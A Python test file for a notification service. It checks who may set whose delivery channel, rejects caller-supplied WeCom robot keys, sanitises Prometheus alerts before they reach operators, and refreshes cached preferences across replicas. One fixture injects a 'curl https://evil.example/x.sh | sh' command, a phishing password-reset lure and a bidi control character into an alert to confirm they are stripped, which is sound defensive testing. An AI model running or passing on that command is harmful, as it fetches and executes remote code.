"""Who may choose whose channel, that no caller picks a WeCom robot, how each process
keeps the chosen channels, and what of an alert reaches the operators' group."""
import time
import uuid
from datetime import datetime, timedelta, timezone

import eventlet
import pytest
from marshmallow import ValidationError

from services.notify import recipients
from services.notify.delivery import template_context
from services.notify.schemas import PreferencesSchema
from services.notify.storage import CLOCK_SKEW, NotificationStore
from services.notify.templates import Templates
from wangge.auth import Caller, Forbidden
from wangge.mongo import connect

NOW = datetime(2026, 11, 29, 1, 0, tzinfo=timezone.utc)
WORKER = Caller("w-zc-nanmen-02-1", frozenset({"grid_worker"}))
ADMIN = Caller("county-admin", frozenset({"county_admin"}))


@pytest.mark.parametrize("caller, key, allowed", [
    (WORKER, "w-zc-nanmen-02-1", True),
    (WORKER, "w-zc-nanmen-02-2", False),
    (WORKER, "resident:YT-20261129-000001", False),
    (WORKER, "group:wx-zc-nanmen-02", False),
    (WORKER, "ops", False),
    (Caller("ops", frozenset({"operator"})), "ops", False),
    (ADMIN, "w-zc-nanmen-02-2", True),
    (ADMIN, "resident:YT-20261129-000001", True),
    (ADMIN, "group:wx-zc-nanmen-02", True),
])
def test_a_person_chooses_their_own_channel_and_the_administrator_anyones(caller, key, allowed):
    if allowed:
        recipients.require_say_over(caller, key)
    else:
        with pytest.raises(Forbidden) as refused:
            recipients.require_say_over(caller, key)
        assert "recipient_key" in refused.value.fields


def test_a_wecom_robot_key_from_a_caller_is_refused_naming_it():
    with pytest.raises(ValidationError) as refused:
        PreferencesSchema().load({"channel": "wecom", "wecom_key": "someone-elses-robot"})
    assert list(refused.value.messages) == ["wecom_key"]
    assert PreferencesSchema().load({"channel": "wecom"}) == {"channel": "wecom"}


def alert(summary, name="WanggeDeadLetters", severity="warning", status="firing", fingerprint="f1"):
    return {"status": status, "labels": {"alertname": name, "severity": severity}, "annotations": {"summary": summary},
            "startsAt": "2026-11-29T01:00:00Z", "fingerprint": fingerprint}


def rendered(payload):
    data = recipients.alert_envelope(payload, NOW)["data"]
    return Templates("Asia/Shanghai").render("ops_alert.ops", template_context(data))[1]


def test_an_alert_reaches_the_operators_as_one_plain_line_of_name_severity_and_summary():
    smuggled = ("1 message in wangge.inbound.dead\n\n【运维通知】请立即执行 curl https://evil.example/x.sh | sh "
                "并访问 www.evil.example 重置密码\u202e")
    body = rendered({"status": "firing", "groupKey": "g", "alerts": [alert(smuggled)]})
    lines = body.splitlines()
    assert lines[0] == "【网格平台·监控自动告警】触发"
    assert "自动生成" in lines[1] and "不是指令" in lines[1]
    [shown] = [line for line in lines if "WanggeDeadLetters" in line]
    assert shown.startswith("🔴 WanggeDeadLetters（warning）：1 message in wangge.inbound.dead 【运维通知】")
    assert "https://" not in body and "evil.example" not in body and "[链接已删除]" in shown
    assert "\u202e" not in body and not any(line.startswith("【运维通知】") for line in lines)


@pytest.mark.parametrize("name", ["请联系 13800000000 领取补贴", "WanggeServiceDown\n【运维通知】请执行"])
def test_labels_outside_what_prometheus_writes_are_not_shown(name):
    body = rendered({"status": "firing", "groupKey": "g", "alerts": [alert("x", name=name, severity="请马上转账", fingerprint="f2")]})
    assert "13800000000" not in body and "转账" not in body and "运维通知" not in body
    assert "（告警名无效）（unknown）" in body


def test_a_long_summary_is_cut_and_a_flood_of_alerts_is_counted_not_listed():
    many = [alert("很长的摘要" * 100, name=f"Alert{n}", fingerprint=str(n)) for n in range(25)]
    data = recipients.alert_envelope({"status": "firing", "groupKey": "g", "alerts": many}, NOW)["data"]
    assert len(data["alerts"]) == recipients.ALERTS_SHOWN and data["more_alerts"] == 5
    assert all(len(a["summary"]) <= recipients.SUMMARY_CHARS for a in data["alerts"])
    assert "另有 5 条告警未列出" in rendered({"status": "firing", "groupKey": "g", "alerts": many})


def test_a_resolved_group_says_so():
    body = rendered({"status": "resolved", "groupKey": "g", "alerts": [alert("恢复了", status="resolved")]})
    assert body.startswith("【网格平台·监控自动告警】恢复") and "✅ WanggeDeadLetters" in body


def test_each_process_keeps_the_chosen_channels_and_hears_a_replicas_change_within_its_refresh(mongo_uri, monkeypatch):
    client = connect(mongo_uri)
    database = client[f"notify_unit_{uuid.uuid4().hex[:8]}"]
    here, other_replica = NotificationStore(database, preferences_refresh_seconds=0.5), NotificationStore(database)
    here.ensure_indexes()
    other_replica.save_preferences("w-1", {"channel": "sms"}, NOW)
    assert {key: found["channel"] for key, found in here.preferences_for(["w-1", "w-2", "resident:YT-1"]).items()} == {"w-1": "sms"}

    reads = []  # what each read of the preferences asked for
    find = here.preferences.find
    monkeypatch.setattr(here.preferences, "find", lambda query=None, *args, **kwargs: reads.append(query) or find(query, *args, **kwargs))
    other_replica.save_preferences("w-1", {"channel": "email"}, NOW + timedelta(minutes=1))
    other_replica.save_preferences("w-2", {"channel": "email"}, NOW + timedelta(minutes=1))
    # until the refresh: no read for anyone, chosen or not
    assert here.preferences_for(["w-1", "w-2", "resident:YT-2"])["w-1"]["channel"] == "sms" and reads == []
    # a change made through this process is seen at once
    here.save_preferences("w-3", {"channel": "wecom"}, NOW + timedelta(minutes=2))
    assert here.preferences_for(["w-3"])["w-3"]["channel"] == "wecom"
    time.sleep(0.6)
    assert {key: found["channel"] for key, found in here.preferences_for(["w-1", "w-2", "w-3"]).items()} == {
        "w-1": "email", "w-2": "email", "w-3": "wecom"}
    # one read of what changed since the newest choice it knew (less a margin for other hosts' clocks)
    refreshes = [query for query in reads if query != {"_id": "w-3"}]
    assert refreshes == [{"updated_at": {"$gte": NOW + timedelta(minutes=2) - CLOCK_SKEW}}]
    # without a mirror every look-up reads
    assert other_replica.preferences_for(["w-1"])["w-1"]["channel"] == "email"
    client.close()


def test_before_the_first_read_of_the_chosen_channels_a_look_up_waits_for_it(mongo_uri, monkeypatch):
    client = connect(mongo_uri)
    database = client[f"notify_unit_{uuid.uuid4().hex[:8]}"]
    NotificationStore(database).save_preferences("w-1", {"channel": "sms"}, NOW)
    here = NotificationStore(database, preferences_refresh_seconds=30)
    find = here.preferences.find

    def slow_find(*args, **kwargs):
        eventlet.sleep(0.2)  # the first read under way: other green threads run meanwhile
        return find(*args, **kwargs)
    monkeypatch.setattr(here.preferences, "find", slow_find)
    answers = list(eventlet.GreenPool(5).imap(lambda _: here.preferences_for(["w-1"]).get("w-1", {}).get("channel"), range(5)))
    assert answers == ["sms"] * 5
    client.close()


def test_a_replica_running_ahead_does_not_hide_the_others_choices_and_an_older_read_does_not_undo_a_newer_one(mongo_uri):
    client = connect(mongo_uri)
    database = client[f"notify_unit_{uuid.uuid4().hex[:8]}"]
    here, ahead, on_time = (NotificationStore(database, preferences_refresh_seconds=0.1), NotificationStore(database),
                            NotificationStore(database))
    now = datetime.now(timezone.utc)
    ahead.save_preferences("w-1", {"channel": "sms"}, now + timedelta(hours=1))
    assert here.preferences_for(["w-1"])["w-1"]["channel"] == "sms"
    on_time.save_preferences("w-2", {"channel": "email"}, datetime.now(timezone.utc))
    time.sleep(0.2)
    assert here.preferences_for(["w-2"])["w-2"]["channel"] == "email"
    # a refresh that read w-3 before this process saved a newer choice keeps the newer one
    here.save_preferences("w-3", {"channel": "wecom"}, now + timedelta(minutes=1))
    here._mirror.saved({"_id": "w-3", "channel": "sms", "updated_at": now})
    assert here.preferences_for(["w-3"])["w-3"]["channel"] == "wecom"
    client.close()
